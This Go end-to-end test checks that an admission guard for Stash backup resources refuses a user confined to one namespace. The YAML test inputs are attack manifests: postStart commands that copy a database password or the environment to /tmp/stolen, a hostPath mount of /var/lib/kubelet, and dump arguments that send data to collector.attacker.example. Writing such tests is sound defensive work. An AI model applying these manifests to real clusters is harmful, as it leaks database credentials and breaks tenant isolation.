//go:build e2e

package e2e

import (
	"strings"
	"testing"
	"time"
)

// TestAdmissionGuardConfinedUser: the chart installed the admission guard, and a user whose
// rights end at namespace guard-a (the tenant of confined_test.go) cannot use a
// BackupConfiguration, RestoreSession or Repository to run commands in the backup Job, mount
// the node's disk or send the database credentials elsewhere: each is refused, naming the
// field, and nothing is stored.
func TestAdmissionGuardConfinedUser(t *testing.T) {
	requireHoard(t)
	for _, kind := range []string{"validatingadmissionpolicy", "validatingadmissionpolicybinding"} {
		release := mustKubectl(t, "", "get", kind, "hoard-admission-guard", "-o", `jsonpath={.metadata.annotations.meta\.helm\.sh/release-name}`)
		if release != operatorRelease {
			t.Fatalf("%s hoard-admission-guard belongs to release %q, want the chart's (%s)", kind, release, operatorRelease)
		}
	}

	k := newCaseNamespace(t, "guard-a")
	step(t, "namespace %s and a user confined to it", k.ns)
	u := newConfinedUser(t, k)
	as := "--as=" + u.name
	if u.can("create", "pods", k.ns) {
		t.Fatal("the confined user may create pods: the test would prove nothing")
	}
	if u.can("create", "backupconfigurations.stash.appscode.com", "default") {
		t.Fatalf("the confined user may work outside %s", k.ns)
	}
	// The binding's namespace selector reads namespaces from an informer: wait until the new
	// namespace is guarded.
	postStart := `
apiVersion: stash.appscode.com/v1beta1
kind: BackupConfiguration
metadata: {name: post-start}
spec:
  schedule: "*/5 * * * *"
  task: {name: mysql-backup-10.11}
  repository: {name: repo}
  target: {ref: {apiVersion: appcatalog.appscode.com/v1alpha1, kind: AppBinding, name: db}}
  runtimeSettings:
    container:
      lifecycle:
        postStart:
          exec: {command: [sh, -c, "cat /etc/hoard/target/password > /tmp/stolen"]}
`
	eventually(t, "the guard to cover "+k.ns, time.Minute, time.Second, func() (bool, string) {
		_, err := kubectl(postStart, as, "-n", k.ns, "create", "--dry-run=server", "-f", "-")
		return err != nil && strings.Contains(err.Error(), "admission guard"), errString(err)
	})

	cases := []struct {
		name, kind, objName, yaml, field string
	}{
		{"BackupConfiguration with a postStart exec", "backupconfiguration", "post-start", postStart, "spec.runtimeSettings.container.lifecycle"},
		{"RestoreSession with a postStart exec", "restoresession", "post-start", `
apiVersion: stash.appscode.com/v1beta1
kind: RestoreSession
metadata: {name: post-start}
spec:
  task: {name: mysql-restore-10.11}
  repository: {name: repo}
  target: {ref: {apiVersion: appcatalog.appscode.com/v1alpha1, kind: AppBinding, name: db}}
  runtimeSettings:
    container:
      lifecycle:
        postStart:
          exec: {command: [sh, -c, "env > /tmp/stolen"]}
`, "spec.runtimeSettings.container.lifecycle"},
		{"Repository on the node's disk", "repository", "node-disk", `
apiVersion: stash.appscode.com/v1alpha1
kind: Repository
metadata: {name: node-disk}
spec:
  backend:
    storageSecretName: storage
    local:
      mountPath: /repo
      hostPath: {path: /var/lib/kubelet}
`, "spec.backend.local.hostPath"},
		{"BackupConfiguration with args --host", "backupconfiguration", "elsewhere", `
apiVersion: stash.appscode.com/v1beta1
kind: BackupConfiguration
metadata: {name: elsewhere}
spec:
  schedule: "*/5 * * * *"
  task:
    name: mysql-backup-10.11
    params: [{name: args, value: "--all-databases --host=collector.attacker.example"}]
  repository: {name: repo}
  target: {ref: {apiVersion: appcatalog.appscode.com/v1alpha1, kind: AppBinding, name: db}}
`, "spec.task.params[args]: argument --host=collector.attacker.example"},
		{"RestoreSession with target args -h", "restoresession", "elsewhere", `
apiVersion: stash.appscode.com/v1beta1
kind: RestoreSession
metadata: {name: elsewhere}
spec:
  task: {name: mysql-restore-10.11}
  repository: {name: repo}
  target:
    ref: {apiVersion: appcatalog.appscode.com/v1alpha1, kind: AppBinding, name: db}
    args: [-hcollector.attacker.example]
`, "spec.target.args: argument -hcollector.attacker.example"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := kubectl(c.yaml, as, "-n", k.ns, "create", "-f", "-")
			if err == nil {
				t.Fatalf("the confined user created %s %s", c.kind, c.objName)
			}
			msg := err.Error()
			t.Logf("refused: %s", msg[strings.Index(msg, ": ")+2:])
			if !strings.Contains(msg, c.field) || !strings.Contains(msg, "hoard-admission-guard") {
				t.Errorf("refusal does not name %s: %v", c.field, err)
			}
			if out, err := k.try("get", c.kind, c.objName, "--ignore-not-found", "-o", "name"); err != nil || out != "" {
				t.Errorf("%s %s exists after the refusal (%q, %v)", c.kind, c.objName, out, err)
			}
		})
	}

	// The same user may create a plain one: the refusals above are the guard's, not RBAC's.
	plain := strings.Replace(strings.Replace(postStart, "name: post-start", "name: plain", 1),
		`      lifecycle:
        postStart:
          exec: {command: [sh, -c, "cat /etc/hoard/target/password > /tmp/stolen"]}
`, "      nice: {adjustment: 5}\n", 1)
	plain = strings.Replace(plain, "spec:\n", "spec:\n  paused: true\n", 1)
	if out, err := kubectl(plain, as, "-n", k.ns, "create", "-f", "-"); err != nil {
		t.Fatalf("the confined user cannot create a plain BackupConfiguration: %v", err)
	} else {
		t.Logf("accepted: %s", out)
	}
}
